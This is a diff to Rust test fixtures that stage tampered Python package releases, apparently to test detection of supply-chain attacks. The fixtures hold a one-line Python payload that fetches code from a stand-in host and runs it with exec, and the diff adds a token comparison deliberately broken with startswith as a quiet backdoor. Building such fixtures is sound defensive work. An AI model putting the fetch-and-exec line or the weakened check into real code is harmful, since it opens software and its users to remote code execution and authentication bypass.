@@ -12,6 +12,9 @@ const NOW: i64 = 1_740_830_400;
 const PAYLOAD: &str =
     "import urllib.request as u; exec(u.urlopen('https://payload.example/a').read())\n";
 
+/// What a patient attacker adds, who does not fetch anything: a way past a comparison.
+const QUIET: &str = "def same(token, expected):\n    return expected.startswith(token)\n";
+
 const CORE: &str = "src/widget/core.py";
 
 /// The sources of a small Python package.
@@ -47,8 +50,12 @@ fn sdist(sources: &Tree, version: &str) -> Tree {
 }
 
 /// The same with the payload at the end of a file.
-fn with_payload(mut tree: Tree, path: &str) -> Tree {
-    tree.get_mut(path).unwrap().extend(format!("\n\n{PAYLOAD}").bytes());
+fn with_payload(tree: Tree, path: &str) -> Tree {
+    with(tree, path, PAYLOAD)
+}
+
+fn with(mut tree: Tree, path: &str, payload: &str) -> Tree {
+    tree.get_mut(path).unwrap().extend(format!("\n\n{payload}").bytes());
     tree
 }
 
@@ -166,10 +173,15 @@ pub fn pull_request() -> Stage {
 
 /// A release whose payload is in git, as its new owner committed it.
 fn by_another_owner(change: impl FnOnce(&mut Workflow)) -> Stage {
+    committed(PAYLOAD, change)
+}
+
+/// The payload is committed, tagged and published.
+fn committed(payload: &str, change: impl FnOnce(&mut Workflow)) -> Stage {
     let (mut stage, old, _) = widget();
     stage.git("clone", &["tag", "-d", "v1.1"]);
     stage.git("clone", &["reset", "-q", "--hard", "v1.0"]);
-    let hostile = with_payload(sources("1.1"), CORE);
+    let hostile = with(sources("1.1"), CORE, payload);
     let new = stage.commit("clone", &hostile, "Widget 1.1");
     stage.tag("clone", "v1.1");
     stage.archives(&sdist(&sources("1.0"), "1.0"), &sdist(&hostile, "1.1"));
@@ -227,7 +239,7 @@ pub fn owners_upload() -> Stage {
 
 /// The line is in git, and everything else as always.
 pub fn hostile_commit() -> Stage {
-    by_another_owner(|_| {})
+    committed(QUIET, |_| {})
 }
 
 /// The archive was replaced after the bump.
